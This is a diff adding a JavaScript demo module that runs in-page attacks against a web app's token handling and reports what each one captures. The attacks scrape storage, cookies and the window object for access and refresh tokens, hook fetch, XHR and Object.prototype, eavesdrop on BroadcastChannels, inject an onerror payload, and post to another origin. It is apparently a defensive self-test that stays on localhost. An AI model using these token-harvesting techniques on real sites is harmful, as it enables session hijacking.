@@ -1,0 +1,235 @@
+// A stranger's script in the page: each attack is a real one, and says what it got. Nothing leaves this machine.
+const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+|\b\w+_[\w-]{100,}/g; // access tokens, refresh tokens
+const pause = (ms) => new Promise((done) => setTimeout(done, ms));
+const tokens = (text) => String(text).match(TOKEN) ?? [];
+
+const secondsOf = (token) => {
+  const { exp, iat } = JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/")));
+  return exp - iat;
+};
+
+/** What was found, in words: nothing, an access token for minutes, or something that lasts. */
+const loot = (found, nothing) => {
+  const all = [...new Set(found)];
+  const lasting = all.filter((token) => !token.startsWith("eyJ"));
+  if (lasting.length) return { kind: "lasting", got: "A refresh token", worth: "weeks", tokens: all };
+  if (!all.length) return { kind: "nothing", got: nothing, worth: "–", tokens: [] };
+  const worth = `${Math.max(...all.map(secondsOf))} s at most, then nothing`;
+  return { kind: "minutes", got: "An access token", worth, tokens: all };
+};
+
+const press = async () => {
+  document.getElementById("refresh").click();
+  await pause(600);
+};
+
+async function storage() {
+  const found = [];
+  for (const store of [localStorage, sessionStorage]) found.push(...tokens(JSON.stringify({ ...store })));
+  for (const { name } of (await indexedDB.databases?.()) ?? []) found.push(...tokens(name));
+  for (const key of await caches.keys()) {
+    const cache = await caches.open(key);
+    for (const request of await cache.keys()) found.push(...tokens(await (await cache.match(request)).text()));
+  }
+  return loot(found, "No token in any storage");
+}
+
+async function cookies() {
+  const seen = [document.cookie, JSON.stringify((await window.cookieStore?.getAll()) ?? [])].join(" ");
+  return loot(tokens(seen), seen.includes("__Host-") ? "The cookie's name" : "The cookie is not there for scripts");
+}
+
+/** Every object that can be reached from the window, four steps deep. */
+async function reach() {
+  const found = [];
+  const seen = new Set();
+  const walk = (value, depth) => {
+    if (typeof value === "string") return void found.push(...tokens(value));
+    if (value === null || !["object", "function"].includes(typeof value) || seen.has(value) || !depth) return;
+    seen.add(value);
+    for (const key of Reflect.ownKeys(value)) {
+      try {
+        walk(value[key], depth - 1);
+      } catch {
+        // a getter that wants another object
+      }
+    }
+  };
+  walk(window, 4);
+  return loot(found, `Nothing in ${seen.size} objects`);
+}
+
+/** Wrap everything a token might pass through, make the page renew and call, and unwrap again. */
+async function hooks() {
+  const found = [];
+  const undo = [];
+  const look = (...values) => values.forEach((value) => inspect(value, 3));
+  const inspect = (value, depth) => {
+    if (typeof value === "string") found.push(...tokens(value));
+    else if (value instanceof Request || value instanceof Response) inspect(value.headers, 1);
+    else if (value instanceof Headers) found.push(...tokens([...value].join()));
+    else if (value && typeof value === "object" && depth)
+      for (const { value: inner } of Object.values(Object.getOwnPropertyDescriptors(value))) inspect(inner, depth - 1);
+  };
+  const wrap = (home, name) => {
+    const real = home[name];
+    if (typeof real !== "function") return;
+    home[name] = function (...values) {
+      look(this, ...values);
+      const answer = Reflect.apply(real, this, values);
+      look(answer);
+      return answer;
+    };
+    undo.push(() => (home[name] = real));
+  };
+  const spy = (home, name) => {
+    const real = Object.getOwnPropertyDescriptor(home, name);
+    Object.defineProperty(home, name, {
+      configurable: true,
+      get() {
+        look(this);
+        return real?.get ? Reflect.apply(real.get, this, []) : real?.value;
+      },
+    });
+    undo.push(() => (real ? Object.defineProperty(home, name, real) : delete home[name]));
+  };
+  wrap(window, "fetch");
+  wrap(JSON, "parse");
+  wrap(JSON, "stringify");
+  for (const name of ["open", "send", "setRequestHeader"]) wrap(XMLHttpRequest.prototype, name);
+  for (const name of ["append", "set", "get"]) wrap(Headers.prototype, name);
+  for (const name of ["text", "json", "clone"]) wrap(Response.prototype, name);
+  wrap(Request.prototype, "clone");
+  wrap(BroadcastChannel.prototype, "postMessage");
+  spy(MessageEvent.prototype, "data");
+  spy(Request.prototype, "headers");
+  for (const name of ["then", "refresh_token", "signal", "toJSON"]) spy(Object.prototype, name);
+  try {
+    await press();
+  } finally {
+    for (const step of undo.reverse()) step();
+  }
+  return loot(found, "Twenty hooks, and the token went past none");
+}
+
+async function channel() {
+  const found = [];
+  const stored = Object.keys(localStorage).map((key) => key.replace(/:\w+$/, ""));
+  const names = new Set([...stored, `django-bearer ${location.origin}/auth/ first-party`]);
+  const ears = [...names].map((name) => {
+    const ear = new BroadcastChannel(name);
+    ear.onmessage = (event) => found.push(...tokens(JSON.stringify(event.data)));
+    return ear;
+  });
+  await press();
+  for (const ear of ears) ear.close();
+  return loot(found, "Nobody spoke");
+}
+
+async function refresh() {
+  const answer = await fetch("/auth/refresh/", {
+    method: "POST",
+    credentials: "include",
+    headers: { "Content-Type": "application/json", "X-Bearer-Client": "first-party" },
+    body: JSON.stringify({ retry_key: "0".repeat(32) }),
+  });
+  const text = await answer.text();
+  return loot(tokens(text), `Refused: ${answer.status}`);
+}
+
+/** A page on another site, in a frame: it posts forms and fetches to the server with whatever cookies it gets along. */
+async function elsewhere() {
+  const frame = document.createElement("iframe");
+  frame.className = "away";
+  frame.title = "a stranger's page";
+  frame.src = location.href.replace("127.0.0.1", "localhost").replace(/\/[^/]*$/, "/elsewhere/");
+  const told = new Promise((done) => {
+    const hear = (event) => {
+      if (event.source !== frame.contentWindow) return;
+      removeEventListener("message", hear);
+      done(event.data);
+    };
+    addEventListener("message", hear);
+    setTimeout(() => done({ tries: [], seen: "it never answered" }), 5000);
+  });
+  document.body.append(frame);
+  const { tries, seen } = await told;
+  frame.remove();
+  return loot(tokens(seen), tries.length ? `${tries.length} requests, not one answer it could read` : String(seen));
+}
+
+async function markup() {
+  const blocked = [];
+  const note = (event) => blocked.push(event.effectiveDirective);
+  document.addEventListener("securitypolicyviolation", note);
+  let got = "Script by markup ran";
+  try {
+    document.createElement("div").innerHTML = '<img src="data:," onerror="window.ran = true">';
+  } catch {
+    got = "Trusted Types refused the markup";
+  }
+  const inline = document.createElement("script");
+  try {
+    inline.append("window.ran = true");
+    document.head.append(inline);
+  } catch {
+    // refused as well
+  }
+  await pause(50);
+  inline.remove();
+  document.removeEventListener("securitypolicyviolation", note);
+  if (!window.ran && blocked.length) got = `The policy refused it (${[...new Set(blocked)].join(", ")})`;
+  return { kind: window.ran ? "lasting" : "nothing", got, worth: "–", tokens: [] };
+}
+
+async function send() {
+  const away = `${location.origin.replace("127.0.0.1", "localhost")}/elsewhere/`;
+  try {
+    await fetch(away, { mode: "no-cors", method: "POST", body: "loot" });
+    return { kind: "minutes", got: "The loot went out", worth: "–", tokens: [] };
+  } catch {
+    return { kind: "nothing", got: "The policy let no request out", worth: "–", tokens: [] };
+  }
+}
+
+const ATTACKS = [
+  [storage, "Read every storage", "local, session, databases, caches"],
+  [cookies, "Read the cookies", "document.cookie, cookieStore"],
+  [reach, "Search the window", "every object in reach"],
+  [hooks, "Wrap what tokens pass through", "fetch, XMLHttpRequest, Headers, JSON, Object.prototype"],
+  [channel, "Listen to the tabs", "the client's BroadcastChannel"],
+  [refresh, "Call refresh itself", "as the client does, with the cookie"],
+  [elsewhere, "Ask from another site", "forms, frames, fetches, images"],
+  [markup, "Get in by markup", "an event handler, an inline script"],
+  [send, "Carry it off", "a request to another origin"],
+];
+
+/** Run them all and fill in the table. Returns what each one got. */
+export async function rob(table, verdict) {
+  table.replaceChildren();
+  const results = [];
+  for (const [attack, title, how] of ATTACKS) {
+    verdict.textContent = `${title}…`;
+    let result;
+    try {
+      result = await attack();
+    } catch (error) {
+      result = { kind: "nothing", got: `It failed: ${error.message}`, worth: "–", tokens: [] };
+    }
+    results.push({ name: attack.name, ...result });
+    const row = table.insertRow();
+    const head = document.createElement("th");
+    head.scope = "row";
+    head.append(title, Object.assign(document.createElement("small"), { textContent: how }));
+    row.append(head);
+    const got = row.insertCell();
+    got.append(Object.assign(document.createElement("span"), { className: result.kind, textContent: result.got }));
+    row.insertCell().textContent = result.worth;
+  }
+  const lasting = results.filter((result) => result.kind === "lasting").length;
+  verdict.textContent = lasting
+    ? `${lasting} attacks got something that lasts.`
+    : `${results.length} attacks. Nothing they got outlives the access token’s minutes.`;
+  verdict.className = lasting ? "lasting" : "nothing";
+  return results;
+}
